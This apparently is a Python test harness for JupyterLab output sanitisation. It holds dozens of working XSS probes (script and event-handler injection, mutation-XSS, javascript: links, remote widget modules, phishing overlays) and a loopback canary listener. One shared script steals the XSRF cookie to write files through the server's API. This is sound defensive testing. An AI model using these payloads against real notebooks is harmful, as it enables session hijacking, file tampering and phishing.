"""Outputs that attack the page they are shown in, and a listener that tells whether one got out.

Every probe is a cell. Its name is what it calls out with: `window.__canary` in the page, a
request to the `CanaryServer`, a file put through the server's API.

Rule 1: a probe that nothing lets fire proves nothing: the twin run, with outputs that nobody
cleans, must see those of `MUST_FIRE_UNPROTECTED`.
"""

# ruff: noqa: E501 (a probe is easier to read uncut)
from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# No double quotes, no angle brackets: it goes into attributes of all kinds.
SCRIPT = (
    "(function(){var n='NAME',w=window;try{window.top.__probe;w=window.top}catch(e){};"
    "try{w.__canary=(w.__canary||[]).concat(n)}catch(e){};"
    "try{new Image().src='CANARY/js-'+n}catch(e){};"
    "try{fetch('CANARY/fetch-'+n,{mode:'no-cors'})}catch(e){};"
    "try{var x=(document.cookie.match('_xsrf=([^;]*)')||[])[1];"
    "fetch(location.origin+'/api/contents/pwned-'+n+'.txt',{method:'PUT',credentials:'include',"
    "headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
    "body:JSON.stringify({type:'file',format:'text',content:n})})}catch(e){}})()"
)

# First cell of the attack: what the other cells use.
PREPARE = '''\
CANARY = "{canary}"
SCRIPT = """{script}"""
from IPython.display import display

def js(name):
    return SCRIPT.replace("NAME", name).replace("CANARY", CANARY)

def show(mime, content, metadata=None, **options):
    display({{mime: content, "text/plain": "probe"}}, raw=True, metadata=metadata or {{}}, **options)

def html(content, **metadata):
    show("text/html", content, metadata)
'''

# name: the cell. `js(name)` calls out.
PROBES: dict[str, str] = {
    "script": "html(f'<script>{js(\"script\")}</script>')",
    "onerror": 'html(f\'<img src=x onerror="{js("onerror")}">\')',
    "svg-onload": 'html(f\'<svg onload="{js("svg-onload")}"></svg>\')',
    "details": 'html(f\'<details open ontoggle="{js("details")}">x</details>\')',
    "autofocus": 'html(f\'<input autofocus onfocus="{js("autofocus")}">\')',
    "mutation": (
        "html(f'<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror={js("mutation")}&gt;">\')'
    ),
    "noscript": (
        'html(f\'<noscript><p title="</noscript><img src=x onerror={js("noscript")}>">\')'
    ),
    "iframe-srcdoc": 'html(f\'<iframe srcdoc="<script>{js("iframe-srcdoc")}</script>"></iframe>\')',
    "iframe-javascript": 'html(f\'<iframe src="javascript:{js("iframe-javascript")}"></iframe>\')',
    "object": 'html(f\'<object data="{CANARY}/object"></object><embed src="{CANARY}/embed">\')',
    "meta-refresh": 'html(f\'<meta http-equiv="refresh" content="0;url={CANARY}/meta-refresh">\')',
    "base": 'html(f\'<base href="{CANARY}/base/"><img src="relative.png">\')',
    "link": (
        "html(f'<link rel=stylesheet href=\"{CANARY}/link\">'"
        "f'<link rel=preload as=image href=\"{CANARY}/preload\">'"
        "f'<link rel=prefetch href=\"{CANARY}/prefetch\">')"
    ),
    "remote-image": (
        'html(f\'<img src="{CANARY}/image"><img srcset="{CANARY}/srcset 1x">\''
        "f'<picture><source srcset=\"{CANARY}/source\"><img src=x></picture>'"
        'f\'<video poster="{CANARY}/poster" src="{CANARY}/video"></video>\''
        'f\'<audio autoplay src="{CANARY}/audio"></audio><input type=image src="{CANARY}/input">\''
        "f'<table background=\"{CANARY}/background\"><tr><td>x</td></tr></table>')"
    ),
    "remote-svg-image": (
        'html(f\'<svg><image href="{CANARY}/svg-image"/><use href="{CANARY}/svg-use#x"/>\''
        "f'<feImage href=\"{CANARY}/svg-fe\"/></svg>')"
    ),
    "css-url": (
        "html(f'<p style=\"background:url({CANARY}/css-attribute)\">x</p>'"
        "f'<p style=\"background:image-set(url({CANARY}/css-set) 1x)\">x</p>'"
        "f'<p style=\"list-style-image:url({CANARY}/css-list);display:list-item\">x</p>'"
        "f'<style>@import url({CANARY}/css-import); .jp-Cell {{background:url({CANARY}/css-rule)}}'"
        "f'@font-face {{font-family:f;src:url({CANARY}/css-font)}} p {{font-family:f}}</style>')"
    ),
    "restyle": "html('<style>.jp-Toolbar, body { visibility: hidden !important }</style>')",
    "cover": (
        'html(\'<div id="cover" style="position:fixed;inset:0;z-index:99999;'
        "background:red\">Your session expired</div>')"
    ),
    "commandlinker": (
        'html(\'<button data-commandlinker-command="terminal:create-new" '
        'data-commandlinker-args="{}">press me</button>\')'
    ),
    "javascript-link": 'html(f\'<a href="javascript:{js("javascript-link")}">press me</a>\')',
    "javascript-link-encoded": (
        'html(f\'<a href="java&#10;script&colon;{js("javascript-link-encoded")}">press me</a>\')'
    ),
    "form": (
        'html(f\'<form action="javascript:{js("form")}"><button>press me</button></form>\''
        "f'<form action=\"{CANARY}/form\"><button>press me</button></form>')"
    ),
    "clobber": 'html(\'<img name="getElementById"><form id="main"><input name="querySelector"></form>\')',
    "navigate": "html(f'<script>location = \"{CANARY}/navigate\"</script>')",
    "navigate-top": "html(f'<script>top.location = \"{CANARY}/navigate-top\"</script>')",
    "open": (
        "html(f'<script>open(\"{CANARY}/open\"); '"
        'f\'let a = document.createElement("a"); a.href = "{CANARY}/anchor"; \''
        "'a.target = \"_blank\"; document.body.append(a); a.click()</script>')"
    ),
    "speculation": (
        'html(f\'<script type=speculationrules>{{"prefetch": [{{"urls": \''
        "f'[\"{CANARY}/speculation\"]}}]}}</script>')"
    ),
    "sockets": (
        'html(f\'<script>new WebSocket("{CANARY}/socket".replace("http", "ws")); \''
        'f\'navigator.sendBeacon("{CANARY}/beacon"); new EventSource("{CANARY}/events"); \''
        'f\'import("{CANARY}/import.js"); new Worker("{CANARY}/worker.js")</script>\')'
    ),
    "isolated": "html(f'<script>{js(\"isolated\")}</script>', isolated=True)",
    "isolated-by-type": (
        "show('text/html', f'<script>{js(\"isolated-by-type\")}</script>', "
        "{'text/html': {'isolated': True}})"
    ),
    "trusted-metadata": "html(f'<script>{js(\"trusted-metadata\")}</script>', trusted=True)",
    "javascript": "show('application/javascript', js('javascript'))",
    "javascript-text": "show('text/javascript', js('javascript-text'))",
    "svg-script": (
        "show('image/svg+xml', f'<svg xmlns=\"http://www.w3.org/2000/svg\">'"
        'f\'<script>{js("svg-script")}</script><image href="{CANARY}/svg-mime"/></svg>\')'
    ),
    "svg-handler": (
        "show('image/svg+xml', f'<svg xmlns=\"http://www.w3.org/2000/svg\" "
        'onload="{js("svg-handler")}"><rect width="9" height="9"/></svg>\')'
    ),
    "markdown-onerror": "show('text/markdown', f'<img src=x onerror=\"{js(\"markdown-onerror\")}\">')",
    "markdown-image": "show('text/markdown', f'![x]({CANARY}/markdown-image)')",
    "markdown-link": "show('text/markdown', f'[press me](javascript:{js(\"markdown-link\")})')",
    "markdown-mermaid": (
        "show('text/markdown', '```mermaid\\ngraph LR; A[\"<img src=' + CANARY + '/mermaid>\"]\\n```')"
    ),
    "latex-link": "show('text/latex', r'$\\href{javascript:' + js('latex-link') + r'}{press\\ me}$')",
    "latex-image": r"""show('text/latex', r'$\require{html}\style{background:url(' + CANARY + r'/latex)}{x}$')""",
    "mime-png-html": "show('image/png', f'\\\"><script>{js(\"mime-png-html\")}</script>')",
    "mime-metadata": (
        "display({'image/png': 'AAAA', 'text/plain': 'x'}, raw=True, metadata={'image/png': "
        "{'width': f'1\\\" onerror=\"{js(\"mime-metadata\")}', 'alt': f'\\\"><img src={CANARY}/alt>'}})"
    ),
    "pdf": "show('application/pdf', 'JVBERi0xLjQK')",
    "vega": (
        "show('application/vnd.vegalite.v5+json', {'data': {'url': CANARY + '/vega'}, 'mark': 'bar', "
        "'encoding': {'x': {'field': 'a', 'type': 'nominal'}}})"
    ),
    "vega-image": (
        "show('application/vnd.vega.v5+json', {'width': 9, 'height': 9, 'marks': [{'type': 'image', "
        "'encode': {'enter': {'url': {'value': CANARY + '/vega-image'}}}}]})"
    ),
    "error-html": (
        "class Evil(Exception): pass\n"
        "import sys\nprint(f'<script>{js(\"error-html\")}</script><img src={CANARY}/stream>', "
        "file=sys.stderr)"
    ),
    "osc8": "print(f'\\x1b]8;;javascript:{js(\"osc8\")}\\x07press me\\x1b]8;;\\x07')",
    "update-other": (
        "display({'text/plain': 'first'}, raw=True, display_id='victim')\n"
        "show('text/html', f'<script>{js(\"update-other\")}</script>', "
        "display_id='victim', update=True)"
    ),
    "payload": (
        "from IPython import get_ipython\n"
        "get_ipython().set_next_input('import os # inserted by an output')"
    ),
    "page-payload": (
        "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0, 'data': "
        "{'text/html': f'<script>{js(\"page-payload\")}</script>', 'text/plain': 'x'}})"
    ),
    "target-module": (
        "from comm import create_comm\n"
        "comm = create_comm(target_name='evil', data={}, "
        "metadata={'target_module': CANARY + '/module.js'})\n"
        "from IPython import get_ipython\n"
        "send = getattr(comm, 'publish_msg', None)\n"
        "_ = send and send('comm_open', data={}, metadata={}, buffers=None, "
        "target_name='evil', target_module=CANARY + '/target-module.js')"
    ),
    "widget-html": (
        "import ipywidgets\n"
        'display(ipywidgets.HTML(f\'<img src=x onerror="{js("widget-html")}">\'))'
    ),
    "widget-description": (
        'slider = ipywidgets.IntSlider(description=f\'<img src=x onerror="{js("widget-description")}">\','
        " description_allow_html=True)\ndisplay(slider)"
    ),
    "widget-late": (
        "late = ipywidgets.HTML('x')\ndisplay(late)\n"
        'late.value = f\'<img src=x onerror="{js("widget-late")}">\''
    ),
    "widget-image": (
        "display(ipywidgets.Image(value=(CANARY + '/widget-image').encode(), format='url'))"
    ),
    "widget-output": (
        "out = ipywidgets.Output()\ndisplay(out)\n"
        "out.outputs = ({'output_type': 'display_data', 'metadata': {}, 'data': "
        "{'text/html': f'<script>{js(\"widget-output\")}</script>'}},)"
    ),
    "widget-module": (
        "from traitlets import Unicode\n"
        "class Evil(ipywidgets.DOMWidget):\n"
        "    _view_name = Unicode('V').tag(sync=True)\n"
        "    _view_module = Unicode(CANARY + '/widget-view.js').tag(sync=True)\n"
        "    _model_module = Unicode(CANARY + '/widget-model.js').tag(sync=True)\n"
        "    _model_name = Unicode('M').tag(sync=True)\n"
        "display(Evil())"
    ),
    "files": (
        "with open('evil.svg', 'w') as f:\n"
        '    _ = f.write(f\'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("file-svg")}">\'\n'
        "                f'<image href=\"{CANARY}/file-svg\"/></svg>')\n"
        "with open('evil.html', 'w') as f:\n    _ = f.write(f'<script>{js(\"file-html\")}</script>')\n"
        "with open('evil.png', 'w') as f:\n    _ = f.write(f'<script>{js(\"file-png\")}</script>')\n"
        "with open('evil.csv', 'w') as f:\n"
        "    _ = f.write(f'<img src={CANARY}/csv>,b\\n<script>{js(\"file-csv\")}</script>,2\\n')\n"
        "with open('<img src=x onerror=name()>.txt', 'w') as f:\n    _ = f.write('x')"
    ),
}

# Unprotected, these take the page away or break it, and what else happened could not be seen.
DESTRUCTIVE = frozenset("meta-refresh base navigate navigate-top form clobber".split())

# With outputs that nobody cleans these fire in JupyterLab: measured, and asserted by the twin.
MUST_FIRE_UNPROTECTED = frozenset(
    "script onerror details iframe-srcdoc iframe-javascript isolated isolated-by-type "
    "trusted-metadata javascript javascript-text markdown-onerror update-other page-payload "
    "widget-html widget-late widget-output".split()
)
MUST_BE_REQUESTED_UNPROTECTED = frozenset(
    "/image /srcset /css-rule /css-import /css-attribute /markdown-image /object /link /preload "
    "/svg-image /widget-image /beacon /socket /import.js".split()
)

# In the page itself a link to the web is the reader's own decision; in a frame nothing is.
CLICK_IN_PAGE = """() => {
  const all = '.jp-OutputArea-output a:not([href^=http]), .jp-OutputArea-output button, '
    + '.jp-OutputArea-output [data-commandlinker-command], .jp-OutputArea-output input[type=submit]';
  document.querySelectorAll(all).forEach(element => element.click());
}"""
CLICK_IN_FRAME = """() => {
  document.querySelectorAll('a, button, input, form, [onclick]').forEach(element => element.click());
}"""


def attack(canary_url: str, *, without: frozenset[str] = frozenset()) -> list[str]:
    """The cells of the attack, the preparing one first."""
    probes = [cell for name, cell in PROBES.items() if name not in without]
    return [PREPARE.format(canary=canary_url, script=SCRIPT), *probes]


class CanaryServer:
    """A listener on loopback that remembers every path asked for."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.paths.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, *_arguments: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    def __enter__(self) -> CanaryServer:
        self._thread.start()
        return self

    def __exit__(self, *_error: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()
